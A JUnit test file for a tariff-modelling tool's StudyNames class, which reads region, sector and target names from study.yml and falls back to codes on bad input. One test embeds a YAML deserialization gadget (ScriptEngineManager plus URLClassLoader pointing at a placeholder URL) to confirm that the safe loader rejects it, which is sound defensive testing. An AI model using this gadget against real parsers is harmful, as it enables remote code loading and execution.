package org.tariffcast.reporting.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.tariffcast.model.config.ConfigSnapshot;
import org.tariffcast.reporting.SmallRun;

class StudyNamesTest {
  @Test
  void readsRegionSectorAndTargetNamesFromStudyYml() {
    StudyNames names = StudyNames.from(SmallRun.result().config());
    assertThat(names.region("VN")).isEqualTo("Vietnam");
    assertThat(names.region("XX")).isEqualTo("XX");
    assertThat(names.sector("APPAREL")).isEqualTo("Apparel");
    assertThat(names.regionOrder()).containsExactly("US", "VN", "CN", "RW");
    assertThat(names.sectorOrder()).containsExactly("ELEC", "APPAREL");
    assertThat(names.targetDefinition("US imports from Vietnam fall by a quarter"))
        .isEqualTo("imports_from_partner/total/final_year/pct_change_vs_baseline <= -0.25");
  }

  @Test
  void fallsBackToCodesWhenStudyYmlIsMissingOrUnreadable() {
    StudyNames missing = StudyNames.from(ConfigSnapshot.of(Map.of("flows.csv", "a,b\n")));
    assertThat(missing.region("VN")).isEqualTo("VN");
    StudyNames broken = StudyNames.from(ConfigSnapshot.of(Map.of("study.yml", "regions: [ {code: VN, name: ")));
    assertThat(broken.region("VN")).isEqualTo("VN");
    StudyNames notAMap = StudyNames.from(ConfigSnapshot.of(Map.of("study.yml", "- just a list\n")));
    assertThat(notAMap.sectorOrder()).isEmpty();
  }

  @Test
  void theSafeLoaderRefusesToBuildJavaObjects() {
    String hostile = "regions: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
        + "[\"http://example.invalid/\"]]]]\n";
    StudyNames names = StudyNames.from(ConfigSnapshot.of(Map.of("study.yml", hostile)));
    assertThat(names.regionOrder()).isEmpty();
    assertThat(names.region("US")).isEqualTo("US");
  }
}
